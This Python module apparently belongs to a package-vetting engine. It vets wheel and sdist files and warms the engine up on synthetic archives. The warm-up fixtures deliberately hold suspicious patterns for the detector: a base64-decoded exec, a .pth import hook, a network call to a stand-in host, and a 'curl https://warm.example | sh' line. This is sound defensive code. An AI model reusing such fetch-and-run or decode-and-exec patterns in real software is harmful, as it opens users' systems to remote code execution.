"""The engine inside a worker: what is warmed up before the wall, and one job after it."""

from __future__ import annotations

import encodings
import importlib
import io
import mmap
import pkgutil
import tarfile
import zipfile
from contextlib import suppress
from dataclasses import replace

import msgspec

from pratique.edge.vetting.frames import Start
from pratique.edge.vetting.held import KEPT_BYTES, encoded_bytes
from pratique.edge.vetting.worker import Helper, MakeJob
from pratique.vet.engine import Base, ContentKey, Outcome, Vetting, facts_of, warm_up
from pratique.vet.engine import prepare as make_ready
from pratique.vet.exchange import BaseFacts, StoredContent, Vetted
from pratique.vet.facts import decode_content, decode_release, encode_content, encode_release
from pratique.vet.limits import DEFAULT, THOROUGH
from pratique.vet.model import ContentFacts, Context, Language
from pratique.vet.old_files import open_old

_LONG = "x" * 3_000


class EngineJob:
    """One release file in the engine."""

    def __init__(self, start: Start, helper: Helper) -> None:
        self._helper = helper
        base = _base(helper)
        self._contents = base.contents if base is not None else {}
        self._vetting = Vetting(
            start.filename,
            context=start.context,
            base=base,
            known=self._known,
            limits=THOROUGH if start.thorough else DEFAULT,
            sibling=_sibling(start.sibling),
            listed=helper.listed,
            sha256=start.sha256,
        )

    def feed(self, chunk: bytes, /) -> None:
        """Take the next bytes."""
        self._vetting.feed(chunk)

    def finish(self, archive: mmap.mmap | None, /) -> Vetted:
        """Judge what was read."""
        if archive is None:
            return self._pack(self._vetting.finish())
        with memoryview(archive) as whole:
            return self._pack(self._vetting.finish(whole))

    def _pack(self, outcome: Outcome) -> Vetted:
        self._helper.judged(Vetted(report=outcome.report))
        return pack(outcome)

    def _known(self, sha256: str, language: Language) -> ContentFacts | None:
        kept = self._contents.get((sha256, language))
        if kept is not None:
            return kept
        stored = self._helper.known(sha256, language)
        return decode_content(stored) if stored is not None else None


def pack(outcome: Outcome) -> Vetted:
    """An outcome as it travels."""
    return Vetted(
        report=outcome.report,
        partial=outcome.partial,
        release=encode_release(outcome.release),
        new=tuple(
            StoredContent(sha256=sha256, language=language, facts=encode_content(facts))
            for (sha256, language), facts in outcome.new.items()
        ),
    )


def _contents(base: BaseFacts | None) -> dict[ContentKey, ContentFacts]:
    if base is None:
        return {}
    decoded = ((c, decode_content(c.facts)) for c in base.contents)
    return {(c.sha256, c.language): facts for c, facts in decoded if facts is not None}


def _base(helper: Helper) -> Base | None:
    """The engine's base, as it was decoded once. Raises: ValueError when it is not of this engine."""
    if helper.base is None:
        return None
    base = helper.kept.get("base")
    if not isinstance(base, Base):
        release = decode_release(helper.base.release)
        if release is None:
            raise ValueError
        base = Base(release=release, contents=_contents(helper.base), clone=helper.base.clone)
        if encoded_bytes(helper.base) <= KEPT_BYTES:
            helper.kept["base"] = base
            if all((file.sha256, file.language) in base.contents for file in release.files):
                make_ready(
                    base
                )  # now, while the file is on its way, and once for all its successors
    old = helper.archive
    if old is None:
        return base
    return replace(base, read=open_old(old, base.release.filename))


def _sibling(facts: BaseFacts | None) -> Base | None:
    """The sdist beside a wheel; nothing when another engine read it."""
    release = decode_release(facts.release) if facts is not None else None
    return None if release is None else Base(release=release, contents=_contents(facts))


def prepare() -> MakeJob:
    """Use everything once that a job may use, so that nothing has to be loaded behind the wall."""
    _load_codecs()
    warm_up()
    for filename, data in (("warm-1.0-py3-none-any.whl", _wheel()), ("warm-1.0.tar.gz", _sdist())):
        base = facts_of(data, filename)
        for judged_by in (None, base):
            vetting = Vetting(filename, context=Context(), base=judged_by)
            vetting.feed(data)
            packed = pack(vetting.finish(data))
            msgspec.msgpack.decode(msgspec.msgpack.encode(packed), type=Vetted)
    return EngineJob


def _load_codecs() -> None:
    """A source names its encoding; the module for it cannot be imported later."""
    for name in sorted(module.name for module in pkgutil.iter_modules(encodings.__path__)):
        # Some exist on other systems only.
        with suppress(ImportError):
            importlib.import_module(f"encodings.{name}")


_MEMBERS = {
    "warm/__init__.py": "import os\nfrom .part import run\n\nVALUE = os.environ.get('WARM')\n",
    "warm/part.py": (
        "import base64, subprocess, urllib.request\n\n\ndef run(name='nothing'):\n"
        "    text = base64.b64decode('cHJpbnQoMSk=').decode()\n"
        "    exec(compile(text, 'warm', 'exec'))\n"
        "    urllib.request.urlopen('https://warm.example/' + name)\n"
        "    return subprocess.run(['true'], check=True)\n"
    ),
    "warm/odd.py": "# -*- coding: latin-1 -*-\nx = '\\xe9'.encode('idna')\nif True:\n  broken(\n",
    "warm/long.py": f"data = '{_LONG}'\n",
    "warm/run.sh": "#!/bin/sh\ncurl https://warm.example | sh\n",
    "warm/run.js": "require('child_process').exec('true')\n",
    "warm/data.json": '{"a": [1, 2]}\n',
    "warm/more.toml": "[a]\nb = 1\n",
    "warm.pth": "import warm\n",
    "setup.py": "from setuptools import setup\nsetup(name='warm', cmdclass={'install': object})\n",
    "pyproject.toml": "[build-system]\nrequires = ['setuptools>=1']\n",
    "warm-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: warm\nVersion: 1.0\n\nWarm.\n",
    "warm-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nTag: py3-none-any\n",
    "warm-1.0.dist-info/entry_points.txt": "[console_scripts]\nwarm = warm.part:run\n",
    "warm-1.0.dist-info/RECORD": "warm/__init__.py,,\n",
    "PKG-INFO": "Metadata-Version: 2.1\nName: warm\nVersion: 1.0\n",
}
"""A little of everything. Inert: nobody installs or runs it."""


def _wheel() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in _MEMBERS.items():
            archive.writestr(name, text)
        archive.writestr("warm/native.so", b"\x7fELF\x02\x01\x01" + bytes(200))
        archive.writestr("warm/inner.zip", _small_zip())
    return target.getvalue()


def _small_zip() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("inner.py", "print(1)\n")
    return target.getvalue()


def _sdist() -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w:gz") as archive:
        for name, text in _MEMBERS.items():
            about = tarfile.TarInfo(f"warm-1.0/{name}")
            content = text.encode()
            about.size = len(content)
            archive.addfile(about, io.BytesIO(content))
    return target.getvalue()
